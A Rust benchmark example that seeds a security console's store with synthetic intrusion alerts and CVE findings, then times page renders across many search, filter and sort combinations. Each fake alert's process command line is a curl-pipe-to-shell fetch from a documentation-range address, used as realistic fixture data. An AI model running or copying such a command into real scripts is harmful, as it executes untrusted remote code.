//! Console page latency with a large store: seeds ALERTS alerts and VULNS vulnerability
//! findings (once per database) and serves the console on loopback.
//!
//! `cargo run --release -p palisade-server --example console_bench -- DB ALERTS VULNS`
//! (see `scripts/bench/console`). Prints the first (cold-cache) render of each page and
//! filter, then the paths of the pages to load (the two pages plus a rare and a common text
//! search and an empty category) and the session cookie, and serves until standard input
//! closes; the script drives the pages from a separate load generator.

use std::{sync::Arc, time::Instant};

use palisade_model::{
    AffectedAsset, AlertCategory, AlertDetails, Details, FindingKind, FindingReport, ProcessInfo,
    Role, Severity, Timestamp, VulnerabilityDetails,
};
use palisade_notify::Notifier;
use palisade_server::{AppState, issue_token, router, serve};
use palisade_store::{FindingQuery, HandlingPolicy, SqliteStore, Store};

const RULES: [&str; 8] = [
    "Terminal shell in container",
    "Read sensitive file untrusted",
    "Drop and execute new binary in container",
    "Outbound connection to C2 server",
    "Write below binary dir",
    "Launch package management process in container",
    "Contact K8S API server from container",
    "Clear log activities",
];

/// Search terms of the alerts page's first-view matrix: none, a rule's phrase (one alert in
/// eight), an asset label's prefix (the 250 pods of namespace `team-7`, all of one severity),
/// a two-character term (searched in a window of the newest findings), a term nothing holds.
const ALERT_TERMS: [&str; 5] = ["", "q=C2%20server", "q=team-7%2F", "q=c2", "q=no-such-term"];

/// Search terms of the grouped vulnerabilities page's matrix: none, one vulnerability (a rule),
/// an image's label, a label every image shares (`app-`: all 5,000 images, every finding: the
/// broad label, whose hit assets' findings are too many to read from `findings_by_asset`), a
/// package-like term (111 packages in 300), two characters, nothing.
const VULNERABILITY_TERMS: [&str; 7] = [
    "",
    "q=CVE-2024-00042",
    "q=app-42%3A",
    "q=app-",
    "q=lib1",
    "q=ib",
    "q=no-such-term",
];

/// Filters of the matrix: none, a severity, every status, a namespace, a time range, and a
/// severity with every status.
const MATRIX_FILTERS: [&str; 6] = [
    "",
    "severity=high",
    "status=any",
    "namespace=team-3",
    "range=7d",
    "severity=high&status=any",
];

fn asset(index: u64) -> AffectedAsset {
    let pod = index % 5_000;
    AffectedAsset {
        cluster: if index.is_multiple_of(4) {
            "staging".into()
        } else {
            "prod".into()
        },
        node: Some(format!("node-{}", pod % 50)),
        namespace: Some(format!("team-{}", pod % 20)),
        pod: Some(format!("web-{pod}")),
        container_name: Some("app".into()),
        image: Some(format!(
            "registry.example/team-{}/web:1.{}",
            pod % 20,
            pod % 7
        )),
        ..Default::default()
    }
}

fn alert(index: u64, now: i64) -> FindingReport {
    let rule = RULES[(index % 8) as usize];
    FindingReport {
        id: uuid::Uuid::new_v4(),
        observed_at: Timestamp(now - ((index * 7_919) % (30 * 86_400)) as i64 * 1000),
        severity: Severity::ALL[(index % 5) as usize],
        rule: rule.into(),
        title: format!("{rule} in web-{}", index % 5_000),
        asset: asset(index),
        details: Details::Alert(AlertDetails {
            category: Some(AlertCategory::Intrusion),
            mitre: Some("T1059.004".into()),
            process: ProcessInfo {
                pid: (index % 60_000) as u32 + 100,
                ppid: 1,
                exe: "/bin/sh".into(),
                cmdline: format!(
                    "sh -c 'curl http://203.0.113.{}/x{index} | sh'",
                    index % 250
                ),
                user: "root".into(),
            },
            raw_event: serde_json::json!({"evt.type": "execve", "n": index}),
            ..Default::default()
        }),
        demo: false,
    }
}

fn vulnerability(index: u64, now: i64) -> FindingReport {
    // 2,000 distinct vulnerabilities over 5,000 images: grouping has real work to do.
    let cve = format!("CVE-2024-{:05}", index % 2_000);
    let package = format!("lib{}", index % 300);
    let mut asset = asset(index / 7);
    asset.pod = None;
    asset.container_name = None;
    asset.image = Some(format!("registry.example/app-{}:1.0", index % 5_000));
    FindingReport {
        id: uuid::Uuid::new_v4(),
        observed_at: Timestamp(now - ((index * 104_729) % (30 * 86_400)) as i64 * 1000),
        severity: Severity::ALL[(index % 5) as usize],
        rule: cve.clone(),
        title: format!("{cve} in {package}"),
        asset,
        details: Details::Vulnerability(VulnerabilityDetails {
            package: package.clone(),
            ecosystem: "Debian:12".into(),
            installed_version: format!("1.{}.0-1", index % 13),
            fixed_versions: if index.is_multiple_of(3) {
                vec![]
            } else {
                vec!["9.9.9-1".into()]
            },
            location: format!("/var/lib/dpkg/status#{index}"),
            ..Default::default()
        }),
        demo: false,
    }
}

async fn count(store: &dyn Store, kind: FindingKind) -> u64 {
    store
        .count_by_severity(kind, &FindingQuery::default())
        .await
        .unwrap()
        .by_rank
        .iter()
        .sum()
}

async fn seed(
    store: &dyn Store,
    kind: FindingKind,
    wanted: u64,
    make: fn(u64, i64) -> FindingReport,
) {
    let have = count(store, kind).await;
    if have >= wanted {
        println!("{kind:?}: {have} stored already");
        return;
    }
    let started = Instant::now();
    let now = Timestamp::now().millis();
    let mut index = have;
    while index < wanted {
        let batch: Vec<_> = (index..(index + 5_000).min(wanted))
            .map(|i| make(i, now))
            .collect();
        store
            .ingest(&batch, &HandlingPolicy::default())
            .await
            .unwrap();
        index += batch.len() as u64;
    }
    let seconds = started.elapsed().as_secs_f64();
    println!(
        "{kind:?}: seeded {} in {seconds:.1} s ({:.0}/s)",
        wanted - have,
        (wanted - have) as f64 / seconds
    );
}

#[tokio::main]
async fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let arg = |index: usize, default: u64| {
        args.get(index)
            .and_then(|v| v.parse().ok())
            .unwrap_or(default)
    };
    let path = args
        .first()
        .cloned()
        .unwrap_or_else(|| "/var/tmp/palisade-console-bench.db".into());
    let (alerts, vulns) = (arg(1, 1_000_000), arg(2, 100_000));
    // `RUST_LOG=sqlx::query=debug` prints every statement with its time on standard error:
    // where a slow view's time goes.
    if std::env::var_os("RUST_LOG").is_some() {
        tracing_subscriber::fmt()
            .with_env_filter(tracing_subscriber::EnvFilter::from_default_env())
            .with_writer(std::io::stderr)
            .init();
    }

    let sqlite = SqliteStore::open(path.as_ref()).await.unwrap();
    let store: Arc<dyn Store> = Arc::new(sqlite.clone());
    seed(store.as_ref(), FindingKind::Alert, alerts, alert).await;
    seed(
        store.as_ref(),
        FindingKind::Vulnerability,
        vulns,
        vulnerability,
    )
    .await;
    println!(
        "stored: {} alerts, {} vulnerability findings",
        count(store.as_ref(), FindingKind::Alert).await,
        count(store.as_ref(), FindingKind::Vulnerability).await
    );

    let state = AppState::new(store.clone(), Notifier::start(Default::default()))
        .await
        .unwrap();
    let issued = issue_token("bench", Role::Operator, "bench", None)
        .await
        .unwrap();
    store.insert_token(&issued.record, None).await.unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(serve(listener, router(state), None, std::future::pending()));

    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let login = client
        .post(format!("{base}/console/login"))
        .form(&[("token", issued.token.as_str())])
        .send()
        .await
        .unwrap();
    let cookie = login.headers()["set-cookie"]
        .to_str()
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_owned();
    let pages = [
        ("alerts", format!("{base}/console/clusters/prod/alerts")),
        (
            "vulnerabilities",
            format!("{base}/console/clusters/prod/vulnerabilities"),
        ),
        (
            "alerts text search (rare term)",
            format!("{base}/console/clusters/prod/alerts?q=web-4242"),
        ),
        (
            "alerts text search (common term)",
            format!("{base}/console/clusters/prod/alerts?q=C2%20server"),
        ),
        (
            "alerts empty category",
            format!("{base}/console/clusters/prod/alerts?category=malware&range=30d"),
        ),
    ];
    // The first view of each page computes its aggregates; a view that exceeds the server's
    // 30-second request timeout gets 503 while the computation goes on, so retry.
    for (name, url) in &pages[..2] {
        let started = Instant::now();
        let mut attempts = 0;
        loop {
            attempts += 1;
            let response = client
                .get(url)
                .header("cookie", &cookie)
                .send()
                .await
                .unwrap();
            let status = response.status();
            let body = response.text().await.unwrap();
            if status.is_success() {
                println!(
                    "{name}: first successful render (cold cache) after {:.1} ms, {attempts} attempt(s), {} bytes",
                    started.elapsed().as_secs_f64() * 1000.0,
                    body.len()
                );
                break;
            }
            println!(
                "{name}: attempt {attempts} got {status} after {:.1} s",
                started.elapsed().as_secs_f64()
            );
            assert!(attempts < 20, "{name} never rendered");
        }
    }

    // Each filter once, with its aggregates not cached yet: which filters the store answers
    // from its counters and which count the findings shows here.
    let asset_of = |kind: FindingKind| {
        let store = Arc::clone(&store);
        async move {
            let prod = FindingQuery {
                cluster: Some("prod".into()),
                ..Default::default()
            };
            store.list_findings(kind, &prod).await.unwrap().items[0].asset_id
        }
    };
    let asset = asset_of(FindingKind::Alert).await;
    let image = asset_of(FindingKind::Vulnerability).await;
    // The matrix of first views an operator can open: each search term under each filter,
    // on the alerts page and the grouped vulnerabilities page (`matrix`), every cell once with
    // its aggregates not cached yet and the store's plans of terms forgotten (a term's plan,
    // kept 60 s, would otherwise serve its later cells: each cell is the term's first view).
    let mut filtered: Vec<(&str, String)> = Vec::new();
    for (page, terms) in [
        ("alerts", &ALERT_TERMS[..]),
        ("vulnerabilities", &VULNERABILITY_TERMS[..]),
    ] {
        for term in terms {
            for filter in MATRIX_FILTERS {
                let query: Vec<&str> = [*term, filter]
                    .into_iter()
                    .filter(|part| !part.is_empty())
                    .collect();
                // The unfiltered page is the first view printed above.
                if !query.is_empty() {
                    filtered.push((page, query.join("&")));
                }
            }
        }
    }
    let matrix = filtered.len();
    // Beyond the matrix: other filters (which the store answers from its counters and which
    // count the findings), one asset, and the grouped table sorted by each column header both
    // ways (most severe first is the view above), then sorted under a filter and a search.
    filtered.extend([
        (
            "alerts",
            "severity=high&namespace=team-3&range=7d".to_owned(),
        ),
        ("alerts", "category=intrusion&range=30d".to_owned()),
        // No alert of this seed is handled: the status index finds none at once.
        ("alerts", "status=handled".to_owned()),
        ("alerts", format!("asset={asset}")),
        // A category no alert of this seed has (all are `intrusion`).
        ("alerts", "category=malware&range=30d".to_owned()),
        ("vulnerabilities", "category=Debian:12".to_owned()),
        ("vulnerabilities", "category=npm".to_owned()),
        ("vulnerabilities", format!("asset={image}")),
        ("vulnerabilities", "severity=critical,low".to_owned()),
        ("vulnerabilities", "q=CVE-2024".to_owned()),
    ]);
    filtered.extend(
        [
            "sort=severity&order=asc",
            "sort=rule&order=asc",
            "sort=rule&order=desc",
            "sort=category&order=asc",
            "sort=assets&order=desc",
            "sort=assets&order=asc",
            "sort=findings&order=desc",
            "sort=findings&order=asc",
            "sort=open&order=desc",
            "sort=open&order=asc",
            "sort=fix_available&order=desc",
            "sort=last_seen&order=desc",
            "sort=last_seen&order=asc",
            "sort=package&order=asc",
            "sort=package&order=desc",
            // Every status (the summary's row over all statuses).
            "status=any&sort=assets&order=desc",
            "sort=assets&order=desc&severity=high",
            "sort=last_seen&order=desc&range=7d",
            "sort=assets&order=desc&q=lib1",
            "sort=rule&order=asc&q=CVE-2024",
        ]
        .map(|sort| ("vulnerabilities", sort.to_owned())),
    );
    let mut matrix_times = Vec::new();
    for (page, filter) in &filtered {
        if matrix_times.len() < matrix {
            sqlite.forget_term_plans();
        }
        let started = Instant::now();
        let response = client
            .get(format!("{base}/console/clusters/prod/{page}?{filter}"))
            .header("cookie", &cookie)
            .send()
            .await
            .unwrap();
        let status = response.status();
        response.bytes().await.unwrap();
        let elapsed = started.elapsed().as_secs_f64() * 1000.0;
        println!("{page}?{filter}: first render {elapsed:.1} ms ({status})");
        if matrix_times.len() < matrix {
            matrix_times.push((elapsed, format!("{page}?{filter}")));
        }
    }
    matrix_times.sort_by(|a, b| b.0.total_cmp(&a.0));
    let over = matrix_times.iter().filter(|(ms, _)| *ms >= 100.0).count();
    println!(
        "matrix: {matrix} first views, {over} at or over 100 ms; slowest {:.1} ms ({})",
        matrix_times[0].0, matrix_times[0].1
    );

    // The load comes from a separate process (`scripts/bench/console` runs one `wrk` per page),
    // so that the server's runtime threads and cores are the server's alone: the pages' paths
    // and the session cookie for it, then serve until standard input closes.
    for (name, url) in &pages {
        println!("page\t{name}\t{}", url.trim_start_matches(&base));
    }
    println!("serving\t{base}\t{cookie}");
    tokio::task::spawn_blocking(|| std::io::copy(&mut std::io::stdin(), &mut std::io::sink()))
        .await
        .unwrap()
        .unwrap();
}
